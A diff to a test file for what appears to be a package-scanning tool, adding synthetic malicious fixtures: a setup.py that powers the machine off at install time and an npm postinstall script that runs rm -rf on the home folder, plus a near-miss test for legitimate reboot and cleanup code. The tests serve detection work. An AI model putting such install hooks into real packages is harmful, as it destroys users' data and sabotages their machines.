@@ -1000,6 +1000,33 @@ keyboard.Listener(on_press=on_press).start()
     verdict: 'publish',
   },
   {
+    rule: 'sabotages-machine',
+    name: 'install code powers the machine off',
+    scan: () =>
+      sdist({
+        'setup.py': `import os, platform
+from setuptools import setup
+if platform.system() in ('Linux', 'Darwin'):
+    os.system('poweroff')
+else:
+    os.system('shutdown /s -f -t 0')
+setup(name='synthetic-pkg', version='1.0.0')
+`,
+      }),
+    file: 'setup.py',
+    line: 4,
+    weight: 100,
+    verdict: 'hold',
+  },
+  {
+    rule: 'sabotages-machine',
+    name: 'a postinstall script wipes the home folder',
+    scan: () => npm({ 'x.js': "require('child_process').execSync('rm -rf ~/*')\n" }, postinstall('node x.js')),
+    file: 'x.js',
+    weight: 100,
+    verdict: 'hold',
+  },
+  {
     rule: 'drill-canary',
     name: 'the drill canary file',
     scan: () => npm({ 'gatehouse-drill-canary.js': 'module.exports = "drill"\n' }),
@@ -1039,6 +1066,20 @@ describe('each rule fires on a synthetic payload', () => {
 // Near misses: what legitimate packages write with the same capabilities
 
 describe('near misses legitimate code writes', () => {
+  it('lets a system tool offer a reboot at run time, and prints advice to reboot without running it', async () => {
+    const r = await sdist({
+      'synthetic_pkg/__init__.py': `import subprocess
+print('Drivers updated: run "sudo reboot" to load them; clean up with rm -rf ~/.cache/synthetic')
+def reboot_host(delay=0):
+    subprocess.run(['sudo', 'shutdown', '-r', f'+{delay}'])
+def clean_build():
+    subprocess.run('rm -rf build/ dist/', shell=True)
+`,
+    })
+    expect(r.signals.filter((s) => s.rule === 'sabotages-machine').every((s) => s.weight <= 10)).toBe(true)
+    expect(r.verdict).toBe('publish')
+  })
+
   it('does not count a download saved as data in a file that runs an unrelated command', async () => {
     const r = await sdist({
       'synthetic_pkg/__init__.py': '',
